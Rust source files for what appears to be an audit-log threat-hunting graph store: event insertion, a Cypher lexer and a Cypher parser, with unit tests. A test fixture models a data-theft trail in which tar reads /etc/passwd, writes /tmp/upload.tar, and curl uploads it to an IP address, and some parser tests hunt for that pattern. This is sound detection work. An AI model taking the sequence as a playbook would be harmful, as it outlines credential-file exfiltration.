    ) -> Result<()> {
        if subject < 0 || object < 0 {
            return Err(Error::storage("event endpoints must be non-negative entity ids"));
        }
        self.add_edge(
            crate::graph::NodeId(subject as u32),
            crate::graph::NodeId(object as u32),
            "EVENT",
            &props_from_fields(id, fields),
        )?;
        stats.items_inserted += 1;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::graph::PropIns;
    use raptor_storage::EntitySel;

    /// tar→passwd (read), tar→upload.tar (write), curl→upload.tar (read),
    /// curl→ip (connect).
    fn audit_graph() -> Graph {
        let mut g = Graph::new();
        let tar = g
            .add_node("Process", &[("id", PropIns::Int(0)), ("exename", PropIns::Str("/bin/tar"))]);
        let curl = g.add_node(
            "Process",
            &[("id", PropIns::Int(1)), ("exename", PropIns::Str("/usr/bin/curl"))],
        );
        let passwd =
            g.add_node("File", &[("id", PropIns::Int(2)), ("name", PropIns::Str("/etc/passwd"))]);
        let uptar = g.add_node(
            "File",
            &[("id", PropIns::Int(3)), ("name", PropIns::Str("/tmp/upload.tar"))],
        );
        let ip = g.add_node(
            "NetConn",
            &[("id", PropIns::Int(4)), ("dstip", PropIns::Str("192.168.29.128"))],
        );
        let mut t = 0;
        let mut ev = |g: &mut Graph, s, d, eid: i64, op: &str| {
            t += 100;
            g.add_edge(
                s,
                d,
                "EVENT",
                &[
                    ("id", PropIns::Int(eid)),
                    ("optype", PropIns::Str(op)),
                    ("starttime", PropIns::Int(t)),
                    ("endtime", PropIns::Int(t + 10)),
                ],
            )
            .unwrap();
        };
        ev(&mut g, tar, passwd, 10, "read");
        ev(&mut g, tar, uptar, 11, "write");
        ev(&mut g, curl, uptar, 12, "read");
        ev(&mut g, curl, ip, 13, "connect");
        g.create_node_index("Process", "exename");
        g.create_node_index("Process", "id");
        g.create_node_index("File", "id");
        g
    }

    fn op_eq(g: &Graph, name: &str) -> Pred {
        Pred::Cmp {
            attr: "optype".into(),
            op: raptor_storage::CmpOp::Eq,
            value: SVal::Str(g.dict().intern(name)),
        }
    }

    #[test]
    fn candidates_via_ast() {
        let g = audit_graph();
        let mut stats = BackendStats::default();
        let like = Pred::Like { attr: "exename".into(), pattern: "%tar%".into(), negated: false };
        let ids = g.entity_candidates(EntityClass::Process, &like, &mut stats).unwrap();
        assert_eq!(ids, vec![0]);
        assert_eq!(stats.data_queries, 1);
        assert_eq!(stats.text_parses, 0);
    }

    #[test]
    fn event_pattern_on_graph() {
        let g = audit_graph();
        let mut stats = BackendStats::default();
        let q = EventPatternQuery {
            subject: EntitySel::of(EntityClass::Process, None),
            object: EntitySel::of(EntityClass::File, None),
            event_pred: Some(op_eq(&g, "read")),
            event_id_in: None,
            subject_is_object: false,
        };
        let m = g.match_event_pattern(&q, &mut stats).unwrap();
        assert_eq!(m.len(), 2);
        assert!(m.has_event);
        assert!(m.evt.contains(&10) && m.evt.contains(&12));
    }

    #[test]
    fn variable_length_path_with_final_hop() {
        let g = audit_graph();
        let mut stats = BackendStats::default();
        // tar ~>(1~2)[read] file: the graph is bipartite (no out-edges from
        // files), so with the subject pinned to tar only the direct read of
        // /etc/passwd matches.
        let q = PathPatternQuery {
            subject: EntitySel::of(
                EntityClass::Process,
                Some(Pred::Like {
                    attr: "exename".into(),
                    pattern: "%tar%".into(),
                    negated: false,
                }),
            ),
            object: EntitySel::of(EntityClass::File, None),
            min_hops: 1,
            max_hops: Some(2),
            hop_cap: 8,
            final_hop_pred: Some(op_eq(&g, "read")),
            final_event_id_in: None,
            want_event: true,
            subject_is_object: false,
        };
        let m = g.match_path_pattern(&q, &mut stats).unwrap();
        assert_eq!(m.len(), 1);
        assert_eq!((m.subj[0], m.obj[0], m.evt[0]), (0, 2, 10));
    }

    #[test]
    fn pure_path_without_event_binding() {
        let g = audit_graph();
        let mut stats = BackendStats::default();
        let q = PathPatternQuery {
            subject: EntitySel::of(EntityClass::Process, None),
            object: EntitySel::of(EntityClass::NetConn, None),
            min_hops: 1,
            max_hops: None,
            hop_cap: 8,
            final_hop_pred: None,
            final_event_id_in: None,
            want_event: false,
            subject_is_object: false,
        };
        let m = g.match_path_pattern(&q, &mut stats).unwrap();
        assert_eq!(m.len(), 1);
        assert!(!m.has_event);
        assert_eq!((m.subj[0], m.obj[0], m.evt[0]), (1, 4, -1));
    }

    #[test]
    fn propagated_ids_anchor() {
        let g = audit_graph();
        let mut stats = BackendStats::default();
        let mut subject = EntitySel::of(EntityClass::Process, None);
        subject.id_in = Some(vec![1]);
        let q = EventPatternQuery {
            subject,
            object: EntitySel::of(EntityClass::File, None),
            event_pred: None,
            event_id_in: None,
            subject_is_object: false,
        };
        let m = g.match_event_pattern(&q, &mut stats).unwrap();
        assert_eq!(m.len(), 1);
        assert_eq!(m.subj[0], 1);
    }

    #[test]
    fn typed_attr_fetch() {
        let g = audit_graph();
        let mut stats = BackendStats::default();
        let names = g
            .fetch_attr(AttrSource::Entity(EntityClass::File), "name", &[2, 3, 99], &mut stats)
            .unwrap();
        assert_eq!(
            names,
            vec![
                (2, SVal::Str(g.dict().get("/etc/passwd").unwrap())),
                (3, SVal::Str(g.dict().get("/tmp/upload.tar").unwrap()))
            ]
        );
        let amounts = g.fetch_attr(AttrSource::Event, "optype", &[11, 13], &mut stats).unwrap();
        assert_eq!(
            amounts,
            vec![
                (11, SVal::Str(g.dict().get("write").unwrap())),
                (13, SVal::Str(g.dict().get("connect").unwrap()))
            ]
        );
    }
}
