//! Cypher lexer.

use raptor_common::error::{Error, Result};

#[derive(Clone, PartialEq, Debug)]
pub struct Token {
    pub kind: TokenKind,
    pub offset: usize,
}

#[derive(Clone, PartialEq, Debug)]
pub enum TokenKind {
    Word { text: String, upper: String },
    Int(i64),
    Str(String),
    Symbol(&'static str),
    Eof,
}

impl TokenKind {
    pub fn describe(&self) -> String {
        match self {
            TokenKind::Word { text, .. } => format!("`{text}`"),
            TokenKind::Int(i) => format!("integer {i}"),
            TokenKind::Str(_) => "string literal".to_string(),
            TokenKind::Symbol(s) => format!("`{s}`"),
            TokenKind::Eof => "end of input".to_string(),
        }
    }
}

/// Tokenizes Cypher. Multi-character symbols: `->`, `<-`, `..`, `<=`, `>=`,
/// `<>`.
pub fn lex(input: &str) -> Result<Vec<Token>> {
    let bytes = input.as_bytes();
    let mut i = 0usize;
    let mut out = Vec::new();
    while i < bytes.len() {
        let c = bytes[i] as char;
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        let start = i;
        if c.is_ascii_alphabetic() || c == '_' {
            let mut j = i + 1;
            while j < bytes.len() {
                let d = bytes[j] as char;
                if d.is_ascii_alphanumeric() || d == '_' {
                    j += 1;
                } else {
                    break;
                }
            }
            let text = &input[i..j];
            out.push(Token {
                kind: TokenKind::Word { text: text.to_string(), upper: text.to_ascii_uppercase() },
                offset: start,
            });
            i = j;
        } else if c.is_ascii_digit()
            || (c == '-' && i + 1 < bytes.len() && (bytes[i + 1] as char).is_ascii_digit())
        {
            // A `-` directly followed by a digit is a negative literal; the
            // subset has no arithmetic, and relationship arrows are `->`/`-[`.
            let mut j = i + 1;
            while j < bytes.len() && (bytes[j] as char).is_ascii_digit() {
                j += 1;
            }
            let n: i64 = input[i..j]
                .parse()
                .map_err(|_| Error::syntax("integer literal out of range", start))?;
            out.push(Token { kind: TokenKind::Int(n), offset: start });
            i = j;
        } else if c == '\'' {
            let mut s = String::new();
            let mut j = i + 1;
            loop {
                if j >= bytes.len() {
                    return Err(Error::syntax("unterminated string literal", start));
                }
                if bytes[j] == b'\'' {
                    if j + 1 < bytes.len() && bytes[j + 1] == b'\'' {
                        s.push('\'');
                        j += 2;
                        continue;
                    }
                    j += 1;
                    break;
                }
                let ch_len = match bytes[j] {
                    0x00..=0x7f => 1,
                    0xc0..=0xdf => 2,
                    0xe0..=0xef => 3,
                    _ => 4,
                };
                s.push_str(&input[j..j + ch_len]);
                j += ch_len;
            }
            out.push(Token { kind: TokenKind::Str(s), offset: start });
            i = j;
        } else {
            let two: Option<&'static str> = if i + 1 < bytes.len() {
                match &input[i..i + 2] {
                    "->" => Some("->"),
                    "<-" => Some("<-"),
                    ".." => Some(".."),
                    "<=" => Some("<="),
                    ">=" => Some(">="),
                    "<>" => Some("<>"),
                    _ => None,
                }
            } else {
                None
            };
            if let Some(sym) = two {
                out.push(Token { kind: TokenKind::Symbol(sym), offset: start });
                i += 2;
                continue;
            }
            let one: &'static str = match c {
                '(' => "(",
                ')' => ")",
                '[' => "[",
                ']' => "]",
                '{' => "{",
                '}' => "}",
                ':' => ":",
                ',' => ",",
                '.' => ".",
                '-' => "-",
                '=' => "=",
                '<' => "<",
                '>' => ">",
                '*' => "*",
                _ => return Err(Error::syntax(format!("unexpected character `{c}`"), start)),
            };
            out.push(Token { kind: TokenKind::Symbol(one), offset: start });
            i += 1;
        }
    }
    out.push(Token { kind: TokenKind::Eof, offset: input.len() });
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(s: &str) -> Vec<TokenKind> {
        lex(s).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn relationship_arrows() {
        let ks = kinds("(p)-[e:EVENT*2..4]->(f)");
        assert!(ks.contains(&TokenKind::Symbol("->")));
        assert!(ks.contains(&TokenKind::Symbol("..")));
        assert!(ks.contains(&TokenKind::Symbol("*")));
        assert!(ks.contains(&TokenKind::Symbol("[")));
    }

    #[test]
    fn property_map() {
        let ks = kinds("{optype: 'read', n: 42}");
        assert!(ks.contains(&TokenKind::Str("read".into())));
        assert!(ks.contains(&TokenKind::Int(42)));
        assert!(ks.contains(&TokenKind::Symbol(":")));
    }

    #[test]
    fn ne_symbol() {
        assert_eq!(kinds("<>")[0], TokenKind::Symbol("<>"));
    }

    #[test]
    fn error_offset() {
        assert_eq!(lex("a ; b").unwrap_err().offset, Some(2));
    }
}
