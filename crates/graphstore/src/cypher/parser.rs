//! Recursive-descent Cypher parser.

use raptor_common::error::{Error, Result};

use super::ast::*;
use super::lexer::{lex, Token, TokenKind};

struct Parser {
    tokens: Vec<Token>,
    pos: usize,
}

impl Parser {
    fn peek(&self) -> &Token {
        &self.tokens[self.pos]
    }

    fn advance(&mut self) -> Token {
        let t = self.tokens[self.pos].clone();
        if self.pos + 1 < self.tokens.len() {
            self.pos += 1;
        }
        t
    }

    fn at_keyword(&self, kw: &str) -> bool {
        matches!(&self.peek().kind, TokenKind::Word { upper, .. } if upper == kw)
    }

    fn eat_keyword(&mut self, kw: &str) -> bool {
        if self.at_keyword(kw) {
            self.advance();
            true
        } else {
            false
        }
    }

    fn expect_keyword(&mut self, kw: &str) -> Result<()> {
        if self.eat_keyword(kw) {
            Ok(())
        } else {
            Err(self.unexpected(&format!("expected `{kw}`")))
        }
    }

    fn at_symbol(&self, s: &str) -> bool {
        matches!(&self.peek().kind, TokenKind::Symbol(sym) if *sym == s)
    }

    fn eat_symbol(&mut self, s: &str) -> bool {
        if self.at_symbol(s) {
            self.advance();
            true
        } else {
            false
        }
    }

    fn expect_symbol(&mut self, s: &str) -> Result<()> {
        if self.eat_symbol(s) {
            Ok(())
        } else {
            Err(self.unexpected(&format!("expected `{s}`")))
        }
    }

    fn unexpected(&self, want: &str) -> Error {
        Error::syntax(format!("{want}, found {}", self.peek().kind.describe()), self.peek().offset)
    }

    fn identifier(&mut self) -> Result<String> {
        match &self.peek().kind {
            TokenKind::Word { text, upper } if !is_reserved(upper) => {
                let t = text.clone();
                self.advance();
                Ok(t)
            }
            _ => Err(self.unexpected("expected identifier")),
        }
    }

    fn literal(&mut self) -> Result<CLit> {
        match self.peek().kind.clone() {
            TokenKind::Int(i) => {
                self.advance();
                Ok(CLit::Int(i))
            }
            TokenKind::Str(s) => {
                self.advance();
                Ok(CLit::Str(s))
            }
            _ => Err(self.unexpected("expected literal")),
        }
    }

    fn prop_map(&mut self) -> Result<Vec<(String, CLit)>> {
        let mut props = Vec::new();
        if self.eat_symbol("{") {
            loop {
                let key = self.identifier()?;
                self.expect_symbol(":")?;
                let val = self.literal()?;
                props.push((key, val));
                if !self.eat_symbol(",") {
                    break;
                }
            }
            self.expect_symbol("}")?;
        }
        Ok(props)
    }

    fn node_pattern(&mut self) -> Result<NodePattern> {
        self.expect_symbol("(")?;
        let mut node = NodePattern::default();
        if matches!(&self.peek().kind, TokenKind::Word { upper, .. } if !is_reserved(upper)) {
            node.var = Some(self.identifier()?);
        }
        if self.eat_symbol(":") {
            node.label = Some(self.identifier()?);
        }
        node.props = self.prop_map()?;
        self.expect_symbol(")")?;
        Ok(node)
    }

    fn rel_pattern(&mut self) -> Result<RelPattern> {
        self.expect_symbol("-")?;
        let mut rel = RelPattern::default();
        if self.eat_symbol("[") {
            if matches!(&self.peek().kind, TokenKind::Word { upper, .. } if !is_reserved(upper)) {
                rel.var = Some(self.identifier()?);
            }
            if self.eat_symbol(":") {
                rel.label = Some(self.identifier()?);
            }
            if self.eat_symbol("*") {
                // `*`, `*n`, `*m..n`, `*m..`, `*..n`
                let min = match self.peek().kind.clone() {
                    TokenKind::Int(n) if n >= 0 => {
                        self.advance();
                        Some(n as u32)
                    }
                    _ => None,
                };
                if self.eat_symbol("..") {
                    let max = match self.peek().kind.clone() {
                        TokenKind::Int(n) if n >= 0 => {
                            self.advance();
                            Some(n as u32)
                        }
                        _ => None,
                    };
                    rel.range = Some((min, max));
                } else {
                    // `*n` = exactly n; bare `*` = 1..
                    rel.range = Some(match min {
                        Some(n) => (Some(n), Some(n)),
                        None => (None, None),
                    });
                }
            }
            rel.props = self.prop_map()?;
            self.expect_symbol("]")?;
        }
        self.expect_symbol("->")?;
        Ok(rel)
    }

    fn path_pattern(&mut self) -> Result<PathPattern> {
        let start = self.node_pattern()?;
        let mut segments = Vec::new();
        while self.at_symbol("-") {
            let rel = self.rel_pattern()?;
            let node = self.node_pattern()?;
            segments.push((rel, node));
        }
        Ok(PathPattern { start, segments })
    }

    fn prop_ref(&mut self) -> Result<PropRef> {
        let var = self.identifier()?;
        self.expect_symbol(".")?;
        let prop = self.identifier()?;
        Ok(PropRef { var, prop })
    }

    fn or_expr(&mut self) -> Result<CExpr> {
        let mut left = self.and_expr()?;
        while self.eat_keyword("OR") {
            let right = self.and_expr()?;
            left = CExpr::Or(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn and_expr(&mut self) -> Result<CExpr> {
        let mut left = self.not_expr()?;
        while self.eat_keyword("AND") {
            let right = self.not_expr()?;
            left = CExpr::And(Box::new(left), Box::new(right));
        }
        Ok(left)
    }

    fn not_expr(&mut self) -> Result<CExpr> {
        if self.eat_keyword("NOT") {
            return Ok(CExpr::Not(Box::new(self.not_expr()?)));
        }
        self.primary()
    }

    fn primary(&mut self) -> Result<CExpr> {
        if self.eat_symbol("(") {
            let e = self.or_expr()?;
            self.expect_symbol(")")?;
            return Ok(e);
        }
        let left = self.prop_ref()?;
        if self.eat_keyword("CONTAINS") {
            return Ok(CExpr::StrPred {
                left,
                kind: StrPredKind::Contains,
                needle: self.string_lit()?,
            });
        }
        if self.eat_keyword("STARTS") {
            self.expect_keyword("WITH")?;
            return Ok(CExpr::StrPred {
                left,
                kind: StrPredKind::StartsWith,
                needle: self.string_lit()?,
            });
        }
        if self.eat_keyword("ENDS") {
            self.expect_keyword("WITH")?;
            return Ok(CExpr::StrPred {
                left,
                kind: StrPredKind::EndsWith,
                needle: self.string_lit()?,
            });
        }
        if self.eat_keyword("IN") {
            self.expect_symbol("[")?;
            let mut list = Vec::new();
            loop {
                list.push(self.literal()?);
                if !self.eat_symbol(",") {
                    break;
                }
            }
            self.expect_symbol("]")?;
            return Ok(CExpr::InList { left, list });
        }
        let op = match &self.peek().kind {
            TokenKind::Symbol("=") => COp::Eq,
            TokenKind::Symbol("<>") => COp::Ne,
            TokenKind::Symbol("<") => COp::Lt,
            TokenKind::Symbol("<=") => COp::Le,
            TokenKind::Symbol(">") => COp::Gt,
            TokenKind::Symbol(">=") => COp::Ge,
            _ => return Err(self.unexpected("expected comparison operator")),
        };
        self.advance();
        let right = match self.peek().kind.clone() {
            TokenKind::Int(_) | TokenKind::Str(_) => CmpRhs::Lit(self.literal()?),
            TokenKind::Word { .. } => CmpRhs::Prop(self.prop_ref()?),
            _ => return Err(self.unexpected("expected literal or property")),
        };
        Ok(CExpr::Cmp { left, op, right })
    }

    fn string_lit(&mut self) -> Result<String> {
        match self.peek().kind.clone() {
            TokenKind::Str(s) => {
                self.advance();
                Ok(s)
            }
            _ => Err(self.unexpected("expected string literal")),
        }
    }

    fn query(&mut self) -> Result<CypherQuery> {
        self.expect_keyword("MATCH")?;
        let mut paths = vec![self.path_pattern()?];
        while self.eat_symbol(",") {
            paths.push(self.path_pattern()?);
        }
        let where_clause = if self.eat_keyword("WHERE") { Some(self.or_expr()?) } else { None };
        self.expect_keyword("RETURN")?;
        let distinct = self.eat_keyword("DISTINCT");
        let mut return_items = vec![ReturnItem { prop: self.prop_ref()? }];
        while self.eat_symbol(",") {
            return_items.push(ReturnItem { prop: self.prop_ref()? });
        }
        let limit = if self.eat_keyword("LIMIT") {
            match self.peek().kind.clone() {
                TokenKind::Int(n) if n >= 0 => {
                    self.advance();
                    Some(n as usize)
                }
                _ => return Err(self.unexpected("expected non-negative integer")),
            }
        } else {
            None
        };
        if !matches!(self.peek().kind, TokenKind::Eof) {
            return Err(self.unexpected("expected end of query"));
        }
        Ok(CypherQuery { paths, where_clause, distinct, return_items, limit })
    }
}

fn is_reserved(upper: &str) -> bool {
    matches!(
        upper,
        "MATCH"
            | "WHERE"
            | "RETURN"
            | "DISTINCT"
            | "LIMIT"
            | "AND"
            | "OR"
            | "NOT"
            | "CONTAINS"
            | "STARTS"
            | "ENDS"
            | "WITH"
            | "IN"
    )
}

/// Parses one Cypher query.
pub fn parse_cypher(text: &str) -> Result<CypherQuery> {
    let tokens = lex(text)?;
    let mut p = Parser { tokens, pos: 0 };
    p.query()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_event_pattern() {
        let q = parse_cypher(
            "MATCH (p1:Process)-[evt1:EVENT {optype: 'read'}]->(f1:File) \
             WHERE p1.exename CONTAINS '/bin/tar' RETURN DISTINCT p1.exename, f1.name",
        )
        .unwrap();
        assert_eq!(q.paths.len(), 1);
        let path = &q.paths[0];
        assert_eq!(path.start.var.as_deref(), Some("p1"));
        assert_eq!(path.start.label.as_deref(), Some("Process"));
        assert_eq!(path.segments.len(), 1);
        let (rel, node) = &path.segments[0];
        assert_eq!(rel.var.as_deref(), Some("evt1"));
        assert_eq!(rel.props, vec![("optype".to_string(), CLit::Str("read".into()))]);
        assert!(rel.range.is_none());
        assert_eq!(node.label.as_deref(), Some("File"));
        assert!(q.distinct);
        assert_eq!(q.return_items.len(), 2);
    }

    #[test]
    fn var_length_ranges() {
        let cases = [
            ("*", (None, None)),
            ("*3", (Some(3), Some(3))),
            ("*2..4", (Some(2), Some(4))),
            ("*2..", (Some(2), None)),
            ("*..4", (None, Some(4))),
        ];
        for (spec, want) in cases {
            let q = parse_cypher(&format!("MATCH (a)-[:EVENT{spec}]->(b) RETURN a.x")).unwrap();
            let (rel, _) = &q.paths[0].segments[0];
            assert_eq!(rel.range, Some(want), "{spec}");
        }
    }

    #[test]
    fn multi_path_with_where() {
        let q = parse_cypher(
            "MATCH (p:Process)-[e1:EVENT]->(f:File), (p)-[e2:EVENT]->(g:File) \
             WHERE e1.starttime < e2.starttime AND (f.name CONTAINS 'passwd' OR g.name STARTS WITH '/tmp') \
             RETURN p.exename LIMIT 7",
        )
        .unwrap();
        assert_eq!(q.paths.len(), 2);
        assert_eq!(q.limit, Some(7));
        let w = q.where_clause.unwrap();
        assert_eq!(w.clone().conjuncts().len(), 2);
        assert!(w.vars().contains(&"e1"));
    }

    #[test]
    fn anonymous_nodes_and_rels() {
        let q = parse_cypher(
            "MATCH (p:Process)-[:EVENT*1..2]->()-[e:EVENT {optype:'read'}]->(f) RETURN f.name",
        )
        .unwrap();
        let path = &q.paths[0];
        assert_eq!(path.segments.len(), 2);
        assert!(path.segments[0].1.var.is_none());
        assert!(path.segments[0].0.var.is_none());
    }

    #[test]
    fn in_list_and_ends_with() {
        let q = parse_cypher(
            "MATCH (p:Process) WHERE p.exename IN ['/bin/tar', '/bin/gzip'] AND p.exename ENDS WITH 'tar' RETURN p.exename",
        );
        // A bare node with no relationship is a valid path.
        let q = q.unwrap();
        assert!(q.paths[0].segments.is_empty());
    }

    #[test]
    fn errors() {
        assert!(parse_cypher("MATCH (p RETURN p.x").is_err());
        assert!(parse_cypher("MATCH (p) WHERE RETURN p.x").is_err());
        assert!(parse_cypher("MATCH (p) RETURN p").is_err(), "bare var not supported");
        assert!(parse_cypher("(p) RETURN p.x").is_err());
    }
}
